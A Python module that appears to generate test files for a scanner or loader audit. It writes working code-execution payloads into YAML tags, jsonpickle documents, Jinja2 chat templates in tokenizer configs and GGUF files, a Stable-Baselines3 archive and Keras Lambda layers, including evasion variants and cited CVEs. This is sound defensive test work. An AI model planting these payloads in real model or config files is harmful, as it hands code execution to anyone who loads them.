"""Armed files that are no pickles: configurations, documents and templates that name or hold what their loader runs."""

import base64
import io
import json
import zipfile

from armed import armed

YAML = "import yaml\nwith open(path, 'rb') as file: list(yaml.load_all(file, yaml.UnsafeLoader))"
JSONPICKLE = "import jsonpickle\nwith open(path) as file: jsonpickle.decode(file.read())"
KERAS = "import keras\nkeras.saving.load_model(path, safe_mode=False)"
RENDERED = "jinja2.Environment().from_string(template).render(messages=[], bos_token='', eos_token='')"
CONFIG = (
    "import jinja2, json\nwith open(path) as file: found = json.load(file)['chat_template']\n"
    "for template in [found] if isinstance(found, str) else [one['template'] for one in found]: " + RENDERED
)
FILE = "import jinja2\nwith open(path) as file: template = file.read()\n" + RENDERED
OF_GGUF = "import gguf, jinja2\ntemplate = gguf.GGUFReader(path).get_field('tokenizer.chat_template').contents()\n" + RENDERED
SB3 = "from stable_baselines3.common.save_util import load_from_zip_file\nload_from_zip_file(path)"
TAGS = {
    "apply": '!!python/object/apply:os.system ["{shell}"]',
    "new": '!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , ["{code}"]]]',
    "state of a new type": (
        '!!python/object/new:type\n  args: [z, !!python/tuple [], {{extend: !!python/name:exec }}]\n  listitems: "{code}"'
    ),
    "another handle": '%TAG ! tag:yaml.org,2002:python/\n--- !object/apply:os.system ["{shell}"]',
    "written out": '!<tag:yaml.org,2002:python/object/apply:os.system> ["{shell}"]',
    "escaped letters": '!!python/object/apply:o%73.system ["{shell}"]',
    "a later document": 'a: 1\n--- \n!!python/object/apply:os.system ["{shell}"]',
    "a key": '? !!python/object/apply:os.system ["{shell}"]\n: 1',
}
DOCUMENTS = {
    "reduce": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["SHELL"]}]},
    "deep": {"config": [{"layers": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["SHELL"]}]}}]},
}
TEMPLATES = {
    "globals of a function": "{{{{ cycler.__init__.__globals__.os.popen('{shell}').read() }}}}",
    "joiner": "{{{{ joiner.__init__.__globals__['os'].system('{shell}') }}}}",
    "filter attr": "{{{{ (namespace|attr('__init__')|attr('__globals__'))['os'].popen('{shell}').read() }}}}",
    "joined names": "{{{{ lipsum['__glo' ~ 'bals__']['os'].popen('{shell}').read() }}}}",
    "subclasses": (
        "{{% for c in ''.__class__.__mro__[1].__subclasses__() %}}{{% if c.__name__ == '_wrap_close' %}}"
        "{{{{ c.__init__.__globals__['system']('{shell}') }}}}{{% endif %}}{{% endfor %}}"
    ),
    "set before": "{{% set g = self.__init__.__globals__ %}}{{{{ g.__builtins__['__import__']('os').popen('{shell}').read() }}}}",
}

for name, tag in TAGS.items():

    def of_yaml(effect, path, tag=tag):
        return tag.format(shell=effect.shell, code=effect.code).encode()

    armed(f"YAML: {name}", "a tag that makes Python objects", YAML, ".yaml", ("yaml",))(of_yaml)

for name, document in DOCUMENTS.items():

    def of_jsonpickle(effect, path, document=document):
        return json.dumps(document).replace("SHELL", effect.shell).encode()

    armed(f"jsonpickle: {name}", "a key that makes Python objects", JSONPICKLE, ".json", ("jsonpickle",))(of_jsonpickle)

for name, template in TEMPLATES.items():

    def of_template(effect, path, template=template):
        return template.format(shell=effect.shell).encode()

    def of_config(effect, path, template=template):
        text = "{% for message in messages %}{{ message['content'] }}{% endfor %}" + template.format(shell=effect.shell)
        return json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": text}).encode()

    armed(f"chat template: {name}", "a template that reaches Python", FILE, ".jinja", ("jinja2",))(of_template)
    armed(f"tokenizer_config.json: {name}", "a template that reaches Python", CONFIG, ".json", ("jinja2",))(of_config)


@armed("tokenizer_config.json: one of several templates", "a template that reaches Python", CONFIG, ".json", ("jinja2",))
def several(effect, path):
    bad = TEMPLATES["joiner"].format(shell=effect.shell)
    templates = [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": bad}]
    return json.dumps({"chat_template": templates}).encode()


@armed("GGUF: chat template", "a template that reaches Python", OF_GGUF, ".gguf", ("jinja2", "gguf"), "CVE-2024-34359")
def of_gguf(effect, path):
    import gguf

    writer = gguf.GGUFWriter(path, "llama")
    writer.add_chat_template(TEMPLATES["joiner"].format(shell=effect.shell))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.close()


@armed("Stable-Baselines3: a pickle in base64 in JSON in an archive", "a pickle inside text", SB3, ".zip", ("stable_baselines3",))
def of_baselines(effect, path):
    pickled = base64.b64encode(effect.system).decode()
    data = {"policy_class": {":type:": "<class 'type'>", ":serialized:": pickled}}
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("data", json.dumps(data))
    return made.getvalue()


def with_lambda(layers, effect):
    stored = {"class_name": "__lambda__", "config": {"code": effect.bytecode, "defaults": None, "closure": None}}
    for layer in layers:
        if layer["class_name"] == "Lambda":
            layer["config"]["function"] = stored
        with_lambda(layer["config"].get("layers", ()), effect)


def model_with_lambda(path, *, nested=False):
    import keras

    inner = [keras.Input((2,)), keras.layers.Lambda(abs), keras.layers.Dense(1)]
    layers = [keras.Input((2,)), keras.Sequential(inner)] if nested else inner
    keras.Sequential(layers).save(path)


def rearmed(path, effect):
    with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(members["config.json"])
    with_lambda(config["config"]["layers"], effect)
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in {**members, "config.json": json.dumps(config)}.items():
            archive.writestr(name, data)


@armed("Keras: Lambda layer", "bytecode in the file", KERAS, ".keras", ("keras", "torch"), "CVE-2024-3660")
def keras_lambda(effect, path):
    model_with_lambda(path)
    rearmed(path, effect)


@armed("Keras: Lambda layer in a nested model", "bytecode in the file", KERAS, ".keras", ("keras", "torch"), "CVE-2024-3660")
def keras_nested_lambda(effect, path):
    model_with_lambda(path, nested=True)
    rearmed(path, effect)


@armed("Keras: Lambda layer in HDF5", "bytecode in the file", KERAS, ".h5", ("keras", "torch", "h5py"), "CVE-2025-9905")
def keras_h5(effect, path):
    import h5py

    model_with_lambda(path)
    with h5py.File(path, "r+") as file:
        config = json.loads(file.attrs["model_config"])
        with_lambda(config["config"]["layers"], effect)
        file.attrs["model_config"] = json.dumps(config)
